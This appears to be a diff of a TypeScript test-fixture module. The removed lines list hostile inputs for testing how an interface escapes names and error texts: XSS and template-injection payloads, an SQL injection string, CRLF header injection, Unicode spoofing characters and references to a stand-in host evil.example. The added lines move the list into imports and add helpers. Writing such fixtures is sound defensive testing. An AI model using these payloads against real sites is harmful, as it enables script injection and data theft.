@@ -1,28 +1,27 @@
-const MARK = 'window.witness.pwned++';
+import { MARKUP } from './hostile-markup.ts';
+import { TEXT } from './hostile-text.ts';
 
-/** Names, parameters and error texts as someone would send them who wishes no good. */
-export const HOSTILE: readonly string[] = [
-	`<script>${MARK}</script>`,
-	`"><img src=x onerror="${MARK}">`,
-	`'><svg onload=${MARK}>`,
-	`<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
-	`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${MARK}>">`,
-	`<iframe srcdoc="<script>parent.witness.pwned++</script>">`,
-	`<template><img src=x onerror=${MARK}></template>`,
-	`javascript:${MARK}`,
-	`data:text/html,<script>${MARK}</script>`,
-	`{{constructor.constructor('${MARK}')()}}`,
-	'${' + MARK + '}',
-	`\`+${MARK}+\``,
-	`<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>`,
-	`<base href="//evil.example/"><form action="//evil.example/">`,
-	'\u{202e}gnp.exe\u{202d} Ada \u{2066}\u{2067}',
-	'Ada\u{0}Caller\u{7}\u{1b}[31m',
-	'A\u{200b}d\u{200d}a\u{feff} \u{e0041}\u{e0042}',
-	'Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}'.repeat(40),
-	`Ada"; drop table calls; --`,
-	'%3Cimg%20src%3Dx%20onerror%3Dwitness.pwned%2B%2B%3E',
-	'__proto__',
-	'A\r\nSet-Cookie: a=b\r\n\r\n<b>x</b>',
-	'W'.repeat(100_000)
-];
+/** Names, parameters and error texts as someone would send them who wishes no good, by kind. */
+export const HOSTILE_KINDS = { ...MARKUP, ...TEXT };
+
+/** All of them. */
+export const HOSTILE: readonly string[] = Object.values(HOSTILE_KINDS).flat();
+
+/** Two of each kind, for what takes its time with each. */
+export const SOME_HOSTILE: readonly string[] = Object.values(HOSTILE_KINDS).flatMap((kind) =>
+	kind.slice(0, 2)
+);
+
+/** As much of each as a field of one line takes, none of them blank. */
+export const HOSTILE_LABELS: readonly string[] = HOSTILE.map((words) =>
+	words.replace(/[\r\n\u2028\u2029]/g, ' ')
+)
+	.map((words) => (words.trim() === '' ? `${words.slice(0, 50)}.` : words.slice(0, 60)))
+	.map((words) => (words.trim() === '' ? `.${words.slice(0, 50)}` : words));
+
+/** Letters and digits of it, few of them: signs, marks and blanks are shown in their own ways, and long texts are cut. */
+export const plainly = (words: string): string =>
+	[...words.slice(0, 60).matchAll(/[\p{L}\p{N}]/gu)]
+		.join('')
+		.replaceAll(/[\u{3164}\u{115f}\u{1160}]/gu, '')
+		.slice(0, 12);
